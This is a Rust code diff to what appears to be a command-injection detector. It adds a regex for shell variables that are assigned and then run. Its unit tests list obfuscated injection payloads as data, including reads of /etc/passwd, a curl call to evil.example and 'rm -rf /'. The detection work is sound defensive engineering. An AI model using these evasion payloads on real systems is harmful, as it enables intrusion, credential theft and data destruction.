@@ -152,19 +152,27 @@ cmd|powershell|pwsh|lsb_release|nproc|lscpu|getuid|net1?|arp|route|mount|df|rebo
 /// Command words whose typical attack argument is a bare number or address (`sleep 5`).
 const NUMARG: &str = "sleep|ping|timeout|kill|usleep";
 
+/// A backtick that substitutes a command (`` `id` ``, `` `cat /x` ``).
+fn substitution() -> String {
+    format!(r"`[\s+]*(?:{CMDS})(?:\.exe)?(?:[\s+`]|$)")
+}
+
+/// An argument that makes a command word a command: a flag, a path, a variable, a quote, a
+/// redirection, a drive, a number or address, a dotted name, a URL; or a redirection glued
+/// to the command (`cat</etc/passwd`, `id>o`, `id 2>&1`); a backtick after a space only when
+/// it substitutes a command (`; echo `id``): prose puts code spans there (`…; make `const
+/// fn` work`). Lowercase: under `(?i)` where case is kept.
+fn argument() -> String {
+    r"(?:[\s+]+(?:-{1,2}[a-z0-9]|[/\\~$'<>]|{subst}|[a-z]:(?:[\\/]|$|[\s+|;&])|(?:[0-9]{1,3}\.){3}[0-9]{1,3}|[a-z][a-z0-9_-]*\.(?:[a-z]{2,4}|[0-9]+)\b|https?:|ftp:|[0-9][<>])|[<>])"
+        .replace("{subst}", &substitution())
+}
+
 /// Patterns over the shell view (lowercase, quotes and escapes removed). `WS` also accepts `+`,
 /// a space as a form-encoded value carries it.
 static SHELL: LazyLock<Bank> = LazyLock::new(|| {
     let ws = r"[\s+]";
-    // An argument that makes a command word a command: a flag, a path, a variable, a quote, a
-    // redirection, a drive, a number or address, a dotted name, a URL; or a redirection glued
-    // to the command (`cat</etc/passwd`, `id>o`, `id 2>&1`); a backtick after a space only when
-    // it substitutes a command (`; echo `id``): prose puts code spans there (`…; make `const
-    // fn` work`).
-    let subst = format!(r"`{ws}*(?:{CMDS})(?:\.exe)?(?:[\s+`]|$)");
-    let arg = r"(?:{ws}+(?:-{1,2}[a-z0-9]|[/\\~$'<>]|{subst}|[a-z]:(?:[\\/]|$|[\s+|;&])|(?:[0-9]{1,3}\.){3}[0-9]{1,3}|[a-z][a-z0-9_-]*\.(?:[a-z]{2,4}|[0-9]+)\b|https?:|ftp:|[0-9][<>])|[<>])"
-        .replace("{subst}", &subst)
-        .replace("{ws}", ws);
+    let subst = substitution();
+    let arg = argument();
     let sep = r"(?:[;|&\n\r]|\$\()";
     // What may end a command that needs no argument: the end of the value, a metacharacter, a
     // quote, a redirection (`id>o`, `sh</tmp/x`, `id 2>&1`) or a comment (`id #`, not `id #12`);
@@ -331,8 +339,18 @@ static DECODED: LazyLock<Bank> = LazyLock::new(|| {
     let nl_text = format!(r"(?i)[\n\r][\s+]*{command}");
     // A value that opens with a line break and a command on its own line.
     let nl_first = format!(r"(?i)^[\r\n]+[ \t+]*(?:{NOARG})(?:\.exe)?[ \t+]*(?:[\r\n]|$)");
+    // A variable assigned, then run as a command with an argument (`x=cat;$x /etc/hosts`,
+    // `a=c;b=at;$a$b /etc/passwd`, the assignment on a line of its own): the shell view drops
+    // an expansion that opens a command with more words (it reads it as unset), this one is
+    // set right before.
+    let var = r"\$\{?[a-z_][a-z0-9_]*\}?";
+    let assigned_run = format!(
+        r"(?i)(?:^|[;|&\n\s+])[a-z_][a-z0-9_]*=[^;|&\s]*[;|&\r\n][\s+]*{var}(?:{var})*{arg}",
+        arg = argument()
+    );
     let pats: Vec<(usize, String)> = vec![
         (0, nl),
+        (13, assigned_run),
         (17, nl_text),
         (0, nl_first),
         (6, r"(?i)\$\{?ifs\b".to_string()),
@@ -1145,6 +1163,37 @@ mod tests {
             "src/**/*.js",
         ] {
             assert!(!blocked(v), "blocked: {v:?} -> {:?}", ids(v, 1));
+        }
+    }
+
+    /// A variable assigned, then run as a command with arguments: the shell view drops the
+    /// expansion (it opens a command with more words, as an unset one does), the decoded view
+    /// keeps it.
+    #[test]
+    fn variable_assigned_then_run_with_arguments() {
+        for v in [
+            "x=cat;$x /etc/hosts",
+            "x=cat; $x /etc/hosts",
+            "x=cat\n$x /etc/hosts",
+            "q=1&x=cat;$x /tmp/a",
+            "a=c;b=at;$a$b /etc/passwd",
+            "x=curl;${x} http://evil.example/a",
+            "c=rm;$c -rf /",
+            "X=CAT;$X /ETC/HOSTS",
+        ] {
+            assert!(ids(v, 1).contains(&1313), "{v:?}: {:?}", ids(v, 1));
+            for json in [false, true] {
+                assert!(engine(v, json).blocked, "{v:?} json={json}");
+            }
+        }
+        // A variable used as a word of text, or no assignment before it.
+        for v in [
+            "price=5; $10 off",
+            "a=b; $c and $d are variables",
+            "$x /etc/hosts",
+            "total=$x /day",
+        ] {
+            assert!(!ids(v, 2).contains(&1313), "{v:?}: {:?}", ids(v, 2));
         }
     }
 }
